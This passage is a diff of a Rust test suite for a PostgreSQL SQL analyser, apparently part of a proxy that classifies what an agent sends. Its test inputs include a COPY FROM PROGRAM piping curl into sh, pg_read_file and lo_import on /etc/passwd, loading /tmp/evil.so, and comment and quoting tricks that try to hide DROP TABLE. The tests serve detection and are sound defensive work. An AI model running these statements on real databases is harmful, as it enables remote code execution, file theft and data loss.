@@ -1,33 +1,1060 @@
-//! Analyser tests over a corpus of real PostgreSQL SQL.
+//! Analyser tests over a corpus of real PostgreSQL SQL: what psql, pg_dump
+//! and pgbench send, and what an agent might try to slip past the proxy.
 
+use std::collections::BTreeSet;
+
+use super::StatementClass::{Admin, Code, Ddl, Privilege, Read, Session, Transaction, Write};
 use super::*;
 
 fn run(sql: &str) -> Result<Analysis, SqlError> {
     analyze(sql, &Limits::default())
 }
 
+fn all(sql: &str) -> Vec<StatementFacts> {
+    match run(sql) {
+        Ok(a) => a.statements,
+        Err(e) => panic!("{sql:?}: {e:?}"),
+    }
+}
+
+fn one(sql: &str) -> StatementFacts {
+    let mut v = all(sql);
+    assert_eq!(v.len(), 1, "{sql:?}: {v:#?}");
+    v.remove(0)
+}
+
+fn rel(s: &str) -> Relation {
+    match s.split_once('.') {
+        Some((schema, name)) => Relation {
+            schema: Some(schema.into()),
+            name: name.into(),
+        },
+        None => Relation {
+            schema: None,
+            name: s.into(),
+        },
+    }
+}
+
+fn rels(names: &[&str]) -> BTreeSet<Relation> {
+    names.iter().map(|s| rel(s)).collect()
+}
+
+fn classes(c: &[StatementClass]) -> BTreeSet<StatementClass> {
+    c.iter().copied().collect()
+}
+
+fn funcs(f: &[&str]) -> BTreeSet<String> {
+    f.iter().map(|s| (*s).to_owned()).collect()
+}
+
+fn commands(sql: &str) -> Vec<String> {
+    all(sql).into_iter().map(|s| s.command).collect()
+}
+
+/// Runs `f` on a thread with a tokio worker's default stack (2 MiB).
+fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
+    std::thread::Builder::new()
+        .stack_size(2 << 20)
+        .spawn(f)
+        .unwrap()
+        .join()
+        .unwrap()
+}
+
+// ---- statement boundaries -------------------------------------------------
+
 #[test]
-fn dump() {
-    let Ok(path) = std::env::var("SQL_DUMP") else { return };
-    let text = std::fs::read_to_string(path).unwrap();
-    for q in text.split("\n----\n") {
-        let q = q.trim();
-        if q.is_empty() { continue; }
-        println!("=== {q}");
-        match run(q) {
-            Ok(a) => for s in a.statements {
-                println!("  {} {:?} r={:?} w={:?} f={:?} copy={:?} set={:?} unb={} lim={:?} prep={:?}",
-                    s.command, s.classes, s.reads.iter().map(|r| format!("{}{}", r.schema.as_ref().map(|s| format!("{s}.")).unwrap_or_default(), r.name)).collect::<Vec<_>>(),
-                    s.writes.iter().map(|r| format!("{}{}", r.schema.as_ref().map(|s| format!("{s}.")).unwrap_or_default(), r.name)).collect::<Vec<_>>(),
-                    s.functions, s.copy, s.settings, s.unbounded, s.limit, s.prepared);
-            },
-            Err(e) => println!("  ERR {e:?}"),
+fn empty_comments_and_semicolons_are_no_statements() {
+    for sql in [
+        "",
+        "   \n\t",
+        "-- only a comment",
+        "/* block */",
+        "/* a /* nested */ one */",
+        ";",
+        ";;;",
+        "/* c */ ; -- x\n;",
+    ] {
+        assert!(all(sql).is_empty(), "{sql:?}");
+    }
+}
+
+#[test]
+fn every_statement_of_a_multi_statement_string_is_analysed() {
+    let v = all("select 1; drop table t");
+    assert_eq!(v.len(), 2);
+    assert_eq!(v[0].text, "select 1");
+    assert_eq!((v[1].command.as_str(), &v[1].classes), ("DROP TABLE", &classes(&[Ddl])));
+    assert_eq!(v[1].writes, rels(&["t"]));
+    assert_eq!(
+        commands("SELECT 1; SELECT 2;; SELECT 3;"),
+        ["SELECT", "SELECT", "SELECT"]
+    );
+    assert_eq!(commands("SELECT 1 --\n; DROP TABLE t"), ["SELECT", "DROP TABLE"]);
+}
+
+/// PostgreSQL's block comments nest: what a non-nesting lexer would take for
+/// a statement after `*/` is still comment, and the other way round. Either
+/// way the statements analysed are the ones PostgreSQL runs.
+#[test]
+fn nested_block_comments_cannot_hide_a_statement() {
+    let v = all("/* /* */ DROP TABLE x; */ SELECT 1");
+    assert_eq!(commands("/* /* */ DROP TABLE x; */ SELECT 1"), ["SELECT"]);
+    assert_eq!(v[0].text, "SELECT 1");
+    assert_eq!(commands("SELECT 1 /* /* */ ; DROP TABLE x; */"), ["SELECT"]);
+    assert_eq!(commands("SELECT 1 /* a /* b */ c */ ; SELECT 2"), ["SELECT", "SELECT"]);
+    // A nested comment closed once, then a statement PostgreSQL does run.
+    assert_eq!(commands("/* /* */ */ DROP TABLE x"), ["DROP TABLE"]);
+    // Unterminated (the inner */ closes only the inner comment): the server refuses it too.
+    assert!(matches!(
+        run("/* unterminated /* */ DROP TABLE x;"),
+        Err(SqlError::PgParse(_))
+    ));
+    // Line comments end at the newline, not at `;`.
+    assert_eq!(commands("SELECT 1 -- trailing ; DROP TABLE t"), ["SELECT"]);
+}
+
+#[test]
+fn dollar_quotes_hide_semicolons_and_keywords() {
+    let s = one("SELECT $tag$ it's $$ ; DROP TABLE t; $tag$");
+    assert_eq!((s.command.as_str(), &s.classes), ("SELECT", &classes(&[Read])));
+    assert!(s.writes.is_empty());
+    assert_eq!(commands("SELECT $a$x$a$; DROP TABLE t"), ["SELECT", "DROP TABLE"]);
+    // `$1` is a parameter, `t$1` an identifier: neither opens a quote.
+    assert_eq!(one("SELECT a$b FROM t$1 WHERE x = $1").reads, rels(&["t$1"]));
+    assert!(matches!(run("SELECT 1 $$ unterminated"), Err(SqlError::PgParse(_))));
+    assert!(matches!(
+        run("SELECT $a$ $b$ $a$ ; DROP TABLE t; $b$"),
+        Err(SqlError::PgParse(_))
+    ));
+}
+
+/// With standard_conforming_strings on (pinned by policy) a backslash in a
+/// plain string is a character, and in an E'' string an escape.
+#[test]
+fn backslashes_in_strings_are_lexed_as_postgresql_does() {
+    assert_eq!(commands(r"SELECT '\'; DROP TABLE t; --'"), ["SELECT", "DROP TABLE"]);
+    assert_eq!(commands(r"SELECT E'\''; SELECT 2"), ["SELECT", "SELECT"]);
+    assert_eq!(commands(r"SELECT E'\'; DROP TABLE t; --'"), ["SELECT"]);
+    assert_eq!(commands(r"SELECT E'\\'; DROP TABLE t; --'"), ["SELECT", "DROP TABLE"]);
+    assert_eq!(commands(r"SELECT E'\\\'; DROP TABLE t; --'"), ["SELECT"]);
+    assert_eq!(commands(r"SELECT B'0101', X'1F', N'nat', e'x\ny'"), ["SELECT"]);
+}
+
+#[test]
+fn string_continuation_across_newlines() {
+    assert_eq!(commands("SELECT 'a'\n'b'"), ["SELECT"]);
+    assert_eq!(commands("SELECT 'a' -- c\n  'b'; SELECT 2"), ["SELECT", "SELECT"]);
+    // Without a newline it is a syntax error, for the server too.
+    assert!(matches!(run("SELECT 'a' 'b'"), Err(SqlError::PgParse(_))));
+}
+
+#[test]
+fn unicode_escapes() {
+    assert_eq!(commands(r"SELECT U&'d\0061t\+000061'"), ["SELECT"]);
+    // sqlparser has no U&"..." identifiers nor UESCAPE: refused, not guessed.
+    assert!(matches!(run(r#"SELECT * FROM U&"d\0061t""#), Err(SqlError::Parse(_))));
+    assert!(matches!(run(r"SELECT U&'!0041' UESCAPE '!'"), Err(SqlError::Parse(_))));
+}
+
+// ---- names ----------------------------------------------------------------
+
+#[test]
+fn identifiers_fold_and_truncate_as_postgresql_does() {
+    let s = one(r#"SELECT "Mixed""Case", x FROM "Mixed""Case", MyTable, "Sales"."Orders", Sales.Orders, ÄÖÜ"#);
+    assert_eq!(
+        s.reads,
+        rels(&["Mixed\"Case", "mytable", "Sales.Orders", "sales.orders", "ÄÖÜ"])
+    );
+    let long = "a".repeat(80);
+    assert_eq!(one(&format!("SELECT * FROM {long}")).reads, rels(&[&"a".repeat(63)]));
+    let quoted = "B".repeat(80);
+    assert_eq!(
+        one(&format!("SELECT * FROM \"{quoted}\"")).reads,
+        rels(&[&"B".repeat(63)])
+    );
+}
+
+#[test]
+fn schema_qualified_and_search_path_relative_names() {
+    let s = one("SELECT * FROM public.accounts a JOIN orders o ON o.a = a.id, db.s.t");
+    assert_eq!(s.reads, rels(&["public.accounts", "orders", "s.t"]));
+    let f = one(r#"SELECT myschema.f(), "MySchema"."F"(), pg_catalog.now(), PG_CATALOG.NOW(), lower('x')"#);
+    assert_eq!(f.functions, funcs(&["myschema.f", "MySchema.F", "now", "lower"]));
+}
+
+// ---- classes and relations ------------------------------------------------
+
+#[test]
+fn data_modifying_ctes_are_writes() {
+    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
+    assert_eq!(s.classes, classes(&[Read, Write]));
+    assert_eq!(s.writes, rels(&["t"]));
+    assert!(s.reads.is_empty(), "the CTE name is not a relation");
+
+    let s = one(
+        "WITH w AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO log SELECT * FROM w RETURNING *) SELECT count(*) FROM i",
+    );
+    assert_eq!(s.classes, classes(&[Read, Write]));
+    assert_eq!(s.writes, rels(&["t", "log"]));
+
+    let s = one("WITH t AS (SELECT 1) DELETE FROM t");
+    assert_eq!(
+        (s.command.as_str(), &s.classes, &s.writes),
+        ("DELETE", &classes(&[Write]), &rels(&["t"]))
+    );
+    let s = one("WITH x AS (SELECT * FROM s) INSERT INTO t SELECT * FROM x");
+    assert_eq!((&s.reads, &s.writes), (&rels(&["s"]), &rels(&["t"])));
+}
+
+#[test]
+fn cte_scoping() {
+    // A non-recursive CTE does not see itself: the inner `t` is the table.
+    assert_eq!(one("WITH t AS (SELECT * FROM t) SELECT * FROM t").reads, rels(&["t"]));
+    // A CTE does not see the ones after it.
+    assert_eq!(
+        one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
+        rels(&["b"])
+    );
+    // An inner WITH shadows only inside its own query.
+    let s =
+        one("WITH x AS (SELECT * FROM secret) SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) s, x, y");
+    assert_eq!(s.reads, rels(&["secret", "y"]));
+    assert!(
+        one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 10) SELECT * FROM r")
+            .reads
+            .is_empty()
+    );
+    // A schema-qualified name is never a CTE.
+    assert_eq!(
+        one("WITH t AS (SELECT 1) SELECT * FROM public.t, t").reads,
+        rels(&["public.t"])
+    );
+}
+
+#[test]
+fn select_into_creates_a_table() {
+    let s = one("SELECT * INTO t2 FROM t");
+    assert_eq!(s.classes, classes(&[Write, Ddl]));
+    assert_eq!((&s.reads, &s.writes), (&rels(&["t"]), &rels(&["t2"])));
+    assert!(!s.unbounded);
+    assert_eq!(one("SELECT * INTO UNLOGGED s.x FROM t").writes, rels(&["s.x"]));
+    let s = one("CREATE TABLE t2 AS SELECT * FROM t");
+    assert_eq!(
+        (s.command.as_str(), &s.classes),
+        ("CREATE TABLE AS", &classes(&[Ddl, Write]))
+    );
+    assert_eq!((&s.reads, &s.writes), (&rels(&["t"]), &rels(&["t2"])));
+}
+
+#[test]
+fn explain_analyze_runs_the_statement() {
+    for sql in [
+        "EXPLAIN ANALYZE DELETE FROM t",
+        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
+        "EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM t",
+    ] {
+        let s = one(sql);
+        assert_eq!(
+            (s.command.as_str(), &s.classes, &s.writes),
+            ("EXPLAIN", &classes(&[Write]), &rels(&["t"])),
+            "{sql}"
+        );
+    }
+    for sql in [
+        "EXPLAIN DELETE FROM t",
+        "EXPLAIN (ANALYZE false) DELETE FROM t",
+        "EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
+    ] {
+        let s = one(sql);
+        assert_eq!((&s.classes, &s.reads), (&classes(&[Read]), &rels(&["t"])), "{sql}");
+        assert!(s.writes.is_empty(), "{sql}");
+    }
+    assert_eq!(one("EXPLAIN ANALYZE SELECT * FROM t").classes, classes(&[Read]));
+    // Every spelling PostgreSQL takes for ANALYZE runs the write, or is refused.
+    for sql in [
+        "EXPLAIN (ANALYSE) DELETE FROM t",
+        "EXPLAIN ANALYSE DELETE FROM t",
+        "EXPLAIN (ANALYZE 1) DELETE FROM t",
+        "EXPLAIN (ANALYZE on) DELETE FROM t",
+        "EXPLAIN (ANALYZE 'true') DELETE FROM t",
+        "EXPLAIN (ANALYZE yes) DELETE FROM t",
+        "EXPLAIN (\"analyze\") DELETE FROM t",
+        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
+        "EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM t",
+    ] {
+        match run(sql) {
+            Ok(a) => assert!(a.statements[0].classes.contains(&Write), "{sql}: {a:#?}"),
+            Err(e) => assert!(
+                matches!(e, SqlError::Parse(_) | SqlError::Disagreement(_)),
+                "{sql}: {e:?}"
+            ),
         }
     }
 }
+
 #[test]
-fn dbg_ast() {
-    let Ok(q) = std::env::var("SQL_AST") else { return };
-    let d = sqlparser::dialect::PostgreSqlDialect {};
-    println!("{:#?}", sqlparser::parser::Parser::parse_sql(&d, &q));
+fn dml() {
+    let s = one("INSERT INTO t (a) SELECT now() FROM s RETURNING lower(a)");
+    assert_eq!(
+        (&s.classes, &s.reads, &s.writes),
+        (&classes(&[Write]), &rels(&["s"]), &rels(&["t"]))
+    );
+    assert_eq!(s.functions, funcs(&["now", "lower"]));
+    let s = one("UPDATE t SET a = upper(b) FROM s WHERE s.id = t.id");
+    assert_eq!(
+        (&s.reads, &s.writes, &s.functions),
+        (&rels(&["s"]), &rels(&["t"]), &funcs(&["upper"]))
+    );
+    let s = one("UPDATE t SET (a, b) = (SELECT a, b FROM u WHERE u.id = t.id)");
+    assert_eq!((&s.reads, &s.writes), (&rels(&["u"]), &rels(&["t"])));
+    let s = one("DELETE FROM t USING s WHERE t.id = s.id RETURNING t.*");
+    assert_eq!((&s.reads, &s.writes), (&rels(&["s"]), &rels(&["t"])));
+    let s = one(
+        "MERGE INTO s.t AS tgt USING (SELECT * FROM u) src ON tgt.id = src.id WHEN MATCHED AND src.del THEN DELETE WHEN NOT MATCHED THEN INSERT (id) VALUES (src.id)",
+    );
+    assert_eq!(
+        (s.command.as_str(), &s.reads, &s.writes),
+        ("MERGE", &rels(&["u"]), &rels(&["s.t"]))
+    );
+    let s = one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v");
+    assert_eq!(s.writes, rels(&["t"]));
+}
+
+#[test]
+fn copy_endpoints() {
+    let s = one("COPY t TO PROGRAM 'gzip > /tmp/x.gz'");
+    assert_eq!(
+        s.copy,
+        Some(CopyFacts {
+            from: false,
+            endpoint: CopyEndpoint::Program("gzip > /tmp/x.gz".into())
+        })
+    );
+    assert_eq!((&s.classes, &s.reads), (&classes(&[Read]), &rels(&["t"])));
+    let s = one("COPY t FROM PROGRAM 'curl http://x | sh'");
+    assert_eq!(
+        s.copy,
+        Some(CopyFacts {
+            from: true,
+            endpoint: CopyEndpoint::Program("curl http://x | sh".into())
+        })
+    );
+    assert_eq!((&s.classes, &s.writes), (&classes(&[Write]), &rels(&["t"])));
+    let s = one("COPY t TO '/tmp/x'");
+    assert_eq!(s.copy.unwrap().endpoint, CopyEndpoint::File("/tmp/x".into()));
+    let s = one("COPY t (a, b) FROM '/tmp/in.csv' WITH (FORMAT csv, HEADER true)");
+    assert_eq!(
+        s.copy,
+        Some(CopyFacts {
+            from: true,
+            endpoint: CopyEndpoint::File("/tmp/in.csv".into())
+        })
+    );
+    let s = one("COPY t FROM STDIN");
+    assert_eq!(
+        (s.copy.unwrap().endpoint, &s.writes),
+        (CopyEndpoint::Client, &rels(&["t"]))
+    );
+    let s = one("COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT WITH (FORMAT csv)");
+    assert_eq!((&s.classes, &s.reads), (&classes(&[Read]), &rels(&["a", "b"])));
+    assert!(s.unbounded, "COPY TO STDOUT streams every row");
+    assert_eq!(
+        one("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT").functions,
+        funcs(&["pg_read_file"])
+    );
+    let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
+    assert_eq!((&s.classes, &s.writes), (&classes(&[Read, Write]), &rels(&["t"])));
+}
+
+#[test]
+fn dangerous_functions_are_reported_wherever_they_are_called() {
+    let cases: &[(&str, &[&str])] = &[
+        ("SELECT pg_read_file('/etc/passwd')", &["pg_read_file"]),
+        ("SELECT dblink_exec('host=x', 'DROP TABLE t')", &["dblink_exec"]),
+        ("SELECT lo_import('/etc/passwd')", &["lo_import"]),
+        ("SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)", &["dblink"]),
+        (
+            "SELECT 1 WHERE pg_catalog.pg_read_file('/x') IS NOT NULL",
+            &["pg_read_file"],
+        ),
+        ("SELECT * FROM t ORDER BY pg_ls_dir('.')", &["pg_ls_dir"]),
+        (
+            "SELECT (SELECT max(pg_read_binary_file(x)) FROM t)",
+            &["max", "pg_read_binary_file"],
+        ),
+        (
+            "SELECT * FROM t, LATERAL (SELECT lo_export(1, '/tmp/x')) l",
+            &["lo_export"],
+        ),
+        ("VALUES (pg_terminate_backend(1))", &["pg_terminate_backend"]),
+        ("INSERT INTO t SELECT pg_read_file('/x')", &["pg_read_file"]),
+        ("UPDATE t SET a = pg_read_file('/x')", &["pg_read_file"]),
+        ("DELETE FROM t RETURNING pg_read_file('/x')", &["pg_read_file"]),
+        (
+            "WITH c AS (SELECT pg_read_file('/x')) SELECT * FROM c",
+            &["pg_read_file"],
+        ),
+        (
+            "SELECT * FROM generate_series(1, 10) g, LATERAL (SELECT md5(g::text)) x",
+            &["generate_series", "md5"],
+        ),
+        ("CREATE TABLE t (a text DEFAULT pg_read_file('/x'))", &["pg_read_file"]),
+        (
+            "ALTER TABLE t ADD COLUMN c text DEFAULT pg_read_file('/etc/passwd')",
+            &["pg_read_file"],
+        ),
+        ("CALL myproc(1, dblink_exec('x','y'))", &["dblink_exec", "myproc"]),
+        (
+            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit_fn()",
+            &["audit_fn"],
+        ),
+        ("PREPARE p AS SELECT pg_read_file($1)", &["pg_read_file"]),
+        ("EXPLAIN SELECT pg_read_file('/x')", &["pg_read_file"]),
+    ];
+    for (sql, expected) in cases {
+        let f = one(sql).functions;
+        for name in *expected {
+            assert!(f.contains(*name), "{sql}: {f:?}");
+        }
+    }
+    // SQL-syntax functions PostgreSQL rewrites to calls are reported too.
+    let f = one("SELECT trim(' x '), substring('abc' from 2), now() AT TIME ZONE 'UTC'").functions;
+    assert!(
+        f.contains("btrim") && f.contains("substring") && f.contains("timezone"),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn set_config_is_a_setting() {
+    let s = one("SELECT set_config('search_path', '', false)");
+    assert_eq!(
+        (&s.functions, &s.settings),
+        (&funcs(&["set_config"]), &vec![("search_path".into(), String::new())])
+    );
+    let s = one("SELECT pg_catalog.set_config('Standard_Conforming_Strings', 'off', false)");
+    assert_eq!(
+        s.settings,
+        [("standard_conforming_strings".to_owned(), "off".to_owned())]
+    );
+    assert_eq!(
+        one("SELECT set_config('role', 'admin', true)").settings,
+        [("role".to_owned(), "admin".to_owned())]
+    );
+}
+
+#[test]
+fn role_changes_are_privilege_statements() {
+    let cases = [
+        ("SET ROLE admin", "SET ROLE", ("role", "admin")),
+        ("SET SESSION ROLE admin", "SET ROLE", ("role", "admin")),
+        ("SET role TO 'admin'", "SET ROLE", ("role", "admin")),
+        ("SET ROLE NONE", "SET ROLE", ("role", "none")),
+        ("RESET ROLE", "RESET", ("role", "default")),
+        (
+            "SET SESSION AUTHORIZATION bob",
+            "SET SESSION AUTHORIZATION",
+            ("session_authorization", "bob"),
+        ),
+        (
+            "SET SESSION AUTHORIZATION DEFAULT",
+            "SET SESSION AUTHORIZATION",
+            ("session_authorization", "default"),
+        ),
+        (
+            "RESET SESSION AUTHORIZATION",
+            "RESET",
+            ("session_authorization", "default"),
+        ),
+    ];
+    for (sql, command, (name, value)) in cases {
+        let s = one(sql);
+        assert_eq!(
+            (s.command.as_str(), &s.classes),
+            (command, &classes(&[Privilege])),
+            "{sql}"
+        );
+        assert_eq!(s.settings, [(name.to_owned(), value.to_owned())], "{sql}");
+    }
+}
+
+#[test]
+fn session_settings_including_the_ones_that_change_lexing() {
+    let cases = [
+        (
+            "SET standard_conforming_strings = off",
+            "standard_conforming_strings",
+            "off",
+        ),
+        ("SET backslash_quote = on", "backslash_quote", "on"),
+        ("SET client_encoding = 'LATIN1'", "client_encoding", "LATIN1"),
+        ("SET NAMES 'SJIS'", "client_encoding", "SJIS"),
+        ("SET search_path TO a, \"B\", public", "search_path", "a, B, public"),
+        ("SET search_path = \"$user\", public", "search_path", "$user, public"),
+        ("SET LOCAL statement_timeout TO 5000", "statement_timeout", "5000"),
+        ("SET TIME ZONE 'UTC'", "timezone", "UTC"),
+        ("SET DATESTYLE = ISO", "datestyle", "iso"),
+        ("SET x.y = 'z'", "x.y", "z"),
+        ("RESET search_path", "search_path", "default"),
+        ("RESET ALL", "all", "default"),
+    ];
+    for (sql, name, value) in cases {
+        let s = one(sql);
+        assert_eq!(s.classes, classes(&[Session]), "{sql}");
+        assert_eq!(s.settings, [(name.to_owned(), value.to_owned())], "{sql}");
+    }
+    let s = one("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY");
+    assert_eq!(
+        (s.command.as_str(), &s.classes),
+        ("SET TRANSACTION", &classes(&[Transaction]))
+    );
+}
+
+#[test]
+fn code() {
+    let s = one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
+    assert_eq!((s.command.as_str(), &s.classes), ("DO", &classes(&[Code])));
+    assert_eq!(
+        one("DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$").classes,
+        classes(&[Code])
+    );
+    // A dollar-quoted body with semicolons and a DROP inside is one statement.
+    let s = one("CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; DROP TABLE t; $body$ LANGUAGE sql");
+    assert_eq!(
+        (s.command.as_str(), &s.classes),
+        ("CREATE FUNCTION", &classes(&[Code, Ddl]))
+    );
+    assert!(s.writes.is_empty());
+    let s = one(
+        "CREATE OR REPLACE FUNCTION s.f(a int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $fn$ BEGIN DELETE FROM t; RETURN 1; END $fn$",
+    );
+    assert_eq!(s.classes, classes(&[Code, Ddl]));
+    // Only PostgreSQL's grammar parses these.
+    let s = one("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$");
+    assert_eq!(
+        (s.command.as_str(), &s.classes),
+        ("CREATE PROCEDURE", &classes(&[Code, Ddl]))
+    );
+    let v = all("create function f() returns int language sql begin atomic select 1; select 2; end; select 3");
+    assert_eq!(
+        v.iter().map(|s| s.command.as_str()).collect::<Vec<_>>(),
+        ["CREATE FUNCTION", "SELECT"]
+    );
+    assert_eq!(one("CALL p()").classes, classes(&[Code]));
+    assert_eq!(
+        one("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()").classes,
+        classes(&[Code, Ddl])
+    );
+    assert_eq!(one("CREATE LANGUAGE plperlu").classes, classes(&[Code, Ddl]));
+    assert_eq!(
+        one("CREATE EXTENSION IF NOT EXISTS dblink").classes,
+        classes(&[Code, Ddl])
+    );
+    let s = one("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u");
+    assert_eq!((&s.classes, &s.writes), (&classes(&[Code, Ddl]), &rels(&["t", "u"])));
+    assert_eq!(one("LOAD '/tmp/evil.so'").classes, classes(&[Admin, Code]));
+}
+
+#[test]
+fn prepare_and_execute() {
+    let v = all("PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1); DEALLOCATE p");
+    assert_eq!(
+        (v[0].command.as_str(), &v[0].classes, &v[0].writes),
+        ("PREPARE", &classes(&[Write]), &rels(&["t"]))
+    );
+    assert_eq!(v[0].prepared_name().as_deref(), Some("p"));
+    assert_eq!(
+        (v[1].command.as_str(), &v[1].classes),
+        ("EXECUTE", &classes(&[Read, Write]))
+    );
+    assert!(v[1].unbounded);
+    assert_eq!(v[1].prepared_name().as_deref(), Some("p"));
+    assert_eq!(
+        (v[2].command.as_str(), &v[2].classes),
+        ("DEALLOCATE", &classes(&[Session]))
+    );
+    assert_eq!(v[2].prepared_name().as_deref(), Some("p"));
+    let s = one("PREPARE q AS SELECT * FROM t WHERE a = $1");
+    assert_eq!(
+        (&s.classes, &s.reads, s.unbounded),
+        (&classes(&[Read]), &rels(&["t"]), true)
+    );
+    assert_eq!(one("PREPARE \"Q\" AS SELECT 1").prepared_name().as_deref(), Some("Q"));
+    assert_eq!(one("DEALLOCATE ALL").prepared_name(), None);
+    assert_eq!(one("SELECT 1").prepared_name(), None);
+}
+
+#[test]
+fn ddl_admin_and_privilege_statements() {
+    let cases: &[(&str, &str, &[StatementClass], &[&str])] = &[
+        ("VACUUM FULL t", "VACUUM", &[Admin], &["t"]),
+        ("VACUUM (VERBOSE, ANALYZE) t", "VACUUM", &[Admin], &["t"]),
+        (
+            "vacuum analyze pgbench_branches",
+            "VACUUM",
+            &[Admin],
+            &["pgbench_branches"],
+        ),
+        ("ANALYZE t", "ANALYZE", &[Admin], &["t"]),
+        ("CLUSTER t USING t_pkey", "CLUSTER", &[Admin], &["t"]),
+        ("REINDEX TABLE t", "REINDEX", &[Admin], &["t"]),
+        ("CHECKPOINT", "CHECKPOINT", &[Admin], &[]),
+        (
+            "LOCK TABLE s.t, u IN SHARE MODE NOWAIT",
+            "LOCK TABLE",
+            &[Admin],
+            &["s.t", "u"],
+        ),
+        ("DISCARD ALL", "DISCARD", &[Admin], &[]),
+        ("LISTEN c", "LISTEN", &[Admin], &[]),
+        ("NOTIFY c, 'x'", "NOTIFY", &[Admin], &[]),
+        ("UNLISTEN *", "UNLISTEN", &[Admin], &[]),
+        ("DROP DATABASE foo", "DROP DATABASE", &[Admin], &[]),
+        (
+            "DROP DATABASE IF EXISTS \"Prod\" WITH (FORCE)",
+            "DROP DATABASE",
+            &[Admin],
+            &[],
+        ),
+        ("CREATE DATABASE x", "CREATE DATABASE", &[Admin], &[]),
+        ("ALTER SYSTEM SET work_mem = '1MB'", "ALTER SYSTEM", &[Admin], &[]),
+        ("TRUNCATE t, s.u", "TRUNCATE TABLE", &[Ddl], &["t", "s.u"]),
+        (
+            "TRUNCATE ONLY t RESTART IDENTITY CASCADE",
+            "TRUNCATE TABLE",
+            &[Ddl],
+            &["t"],
+        ),
+        (
+            "DROP TABLE IF EXISTS a, b.c CASCADE",
+            "DROP TABLE",
+            &[Ddl],
+            &["a", "b.c"],
+        ),
+        ("DROP VIEW v", "DROP VIEW", &[Ddl], &["v"]),
+        ("ALTER TABLE t RENAME TO u", "ALTER TABLE", &[Ddl], &["t", "u"]),
+        ("ALTER TABLE s.t RENAME TO u", "ALTER TABLE", &[Ddl], &["s.t", "s.u"]),
+        ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE", &[Ddl], &["t"]),
+        (
+            "CREATE INDEX CONCURRENTLY i ON s.t USING btree (lower(x)) WHERE y > 0",
+            "CREATE INDEX",
+            &[Ddl],
+            &["s.t"],
+        ),
+        ("CREATE VIEW v AS SELECT * FROM t", "CREATE VIEW", &[Ddl], &["v"]),
+        (
+            "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
+            "CREATE MATERIALIZED VIEW",
+            &[Ddl, Write],
+            &["mv"],
+        ),
+        (
+            "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
+            "REFRESH MATERIALIZED VIEW",
+            &[Ddl, Write],
+            &["mv"],
+        ),
+        (
+            "CREATE TABLE p_1 PARTITION OF p FOR VALUES FROM (1) TO (10)",
+            "CREATE TABLE",
+            &[Ddl],
+            &["p", "p_1"],
+        ),
+        ("COMMENT ON TABLE s.t IS 'x'", "COMMENT", &[Ddl], &["s.t"]),
+        (
+            "CREATE SEQUENCE public.t_id_seq AS integer START WITH 1 INCREMENT BY 1 NO MINVALUE NO MAXVALUE CACHE 1",
+            "CREATE SEQUENCE",
+            &[Ddl],
+            &["public.t_id_seq"],
+        ),
+        ("SECURITY LABEL ON TABLE t IS 'secret'", "SECURITY LABEL", &[Ddl], &[]),
+        ("ALTER ROLE r SUPERUSER", "ALTER ROLE", &[Privilege], &[]),
+        ("ALTER USER u WITH PASSWORD 'x'", "ALTER ROLE", &[Privilege], &[]),
+        ("ALTER ROLE u SET search_path = s", "ALTER ROLE", &[Privilege], &[]),
+        ("ALTER ROLE u RENAME TO v", "ALTER ROLE", &[Privilege], &[]),
+        ("CREATE ROLE r LOGIN", "CREATE ROLE", &[Privilege], &[]),
+        ("DROP ROLE r", "DROP ROLE", &[Privilege], &[]),
+        ("DROP USER u", "DROP ROLE", &[Privilege], &[]),
+        ("GRANT SELECT ON t TO bob", "GRANT", &[Privilege], &["t"]),
+        ("GRANT admin TO bob", "GRANT", &[Privilege], &[]),
+        ("GRANT pg_read_server_files TO bob", "GRANT", &[Privilege], &[]),
+        ("REVOKE SELECT ON s.t FROM PUBLIC", "REVOKE", &[Privilege], &["s.t"]),
+        (
+            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob",
+            "ALTER DEFAULT PRIVILEGES",
+            &[Privilege],
+            &[],
+        ),
+        ("REASSIGN OWNED BY a TO b", "REASSIGN OWNED", &[Privilege], &[]),
+    ];
+    for (sql, command, cls, objects) in cases {
+        let s = one(sql);
+        assert_eq!((s.command.as_str(), &s.classes), (*command, &classes(cls)), "{sql}");
+        assert_eq!(s.writes, rels(objects), "{sql}");
+        assert!(
+            s.reads.is_empty() || *command == "CREATE VIEW" || *command == "CREATE MATERIALIZED VIEW",
+            "{sql}"
+        );
+    }
+}
+
+#[test]
+fn transaction_control_and_cursors() {
+    let v = all(
